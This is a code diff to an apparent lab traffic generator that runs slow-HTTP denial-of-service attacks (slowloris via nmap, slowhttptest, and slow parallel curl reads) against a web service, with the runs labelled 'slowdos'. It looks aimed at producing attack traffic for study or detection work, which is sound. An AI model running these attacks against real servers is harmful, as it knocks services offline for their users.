@@ -34,20 +34,19 @@ def nmap(stage: Stage) -> None:
     seconds = about(stage, "seconds", 0.15)
     words = ["nmap", "-n", "-Pn", "-p", "80", "--max-parallelism", str(about(stage, "connections"))]
     words += ["--script", "http-slowloris"]
-    words += ["--script-args", f"http-slowloris.timelimit={seconds}s,http-slowloris.send_interval={one(stage, 'interval')}s"]
+    words += [
+        "--script-args",
+        f"http-slowloris.timelimit={seconds}s,http-slowloris.send_interval={one(stage, 'interval')}s",
+    ]
     stage.run(*words, address(stage), limit_s=seconds + 10, ok=None)
 
 
-def curl(stage: Stage, mode: str) -> None:
-    """Send a body or read a page at a few bytes a second on many connections, with curl."""
+def curl(stage: Stage) -> None:
+    """Read at a few bytes a second on many connections, with curl."""
     count, seconds = about(stage, "connections"), about(stage, "seconds", 0.15)
-    (stage.folder / "body").write_bytes(stage.rng.randbytes(40_000))
-    lines = []
-    for number in range(count):
-        lines += [f'url = "{url(stage, mode)}?{number}"', 'output = "/dev/null"']
-        lines += [f'upload-file = "{stage.folder}/body"', 'request = "POST"'] if mode == "body" else []
+    lines = [f'url = "{url(stage, "read")}?{number}"\noutput = "/dev/null"' for number in range(count)]
     (stage.folder / "many").write_text("\n".join(lines) + "\n")
-    words = ["curl", "-s", "-k", "-g", "--http1.1", "-H", "Expect:", "--parallel", "--parallel-immediate"]
+    words = ["curl", "-s", "-k", "-g", "--http1.1", "--parallel", "--parallel-immediate"]
     words += ["--parallel-max", str(count), "--max-time", str(seconds), "--limit-rate", str(about(stage, "bytes"))]
     stage.run(*words, "-K", str(stage.folder / "many"), limit_s=seconds + 10, ok=None)
 
@@ -62,16 +61,13 @@ def slow_headers(stage: Stage) -> None:
 
 def slow_body(stage: Stage) -> None:
     """Never finish the body."""
-    if one(stage, "tool") == "curl":
-        curl(stage, "body")
-    else:
-        slowhttptest(stage, "body")
+    slowhttptest(stage, "body")
 
 
 def slow_read(stage: Stage) -> None:
     """Never finish reading."""
     if one(stage, "tool") == "curl":
-        curl(stage, "read")
+        curl(stage)
     else:
         slowhttptest(stage, "read")
 
@@ -79,7 +75,7 @@ def slow_read(stage: Stage) -> None:
 COMMON = {
     "target": "web",
     "scheme": "http",
-    "path": "/",  # what slow reading asks for
+    "path": ["/files/0.bin", "/files/1.bin", "/drip/2.bin"],  # what slow reading asks for
     "connections": 40,  # median, each is a flow
     "rate": 20,  # new connections per second
     "seconds": 20,  # how long all of it lasts
@@ -100,11 +96,11 @@ KINDS = (
         name="slow-body",
         label="slowdos",
         play=slow_body,
-        needs={"slowhttptest": "slowhttptest", "curl": "curl"},
+        needs={"slowhttptest": "slowhttptest"},
         services=("web",),
         lasts_s=22,
         limit_s=60,
-        settings={**COMMON, "tool": "slowhttptest", "bytes": 60},  # or curl, so many bytes a second
+        settings=COMMON,
     ),
     Kind(
         name="slow-read",
@@ -114,6 +110,6 @@ KINDS = (
         services=("web",),
         lasts_s=22,
         limit_s=60,
-        settings={**COMMON, "tool": "slowhttptest", "bytes": 100},  # or curl
+        settings={**COMMON, "tool": "slowhttptest", "bytes": 100},  # or curl, so many bytes a second
     ),
 )
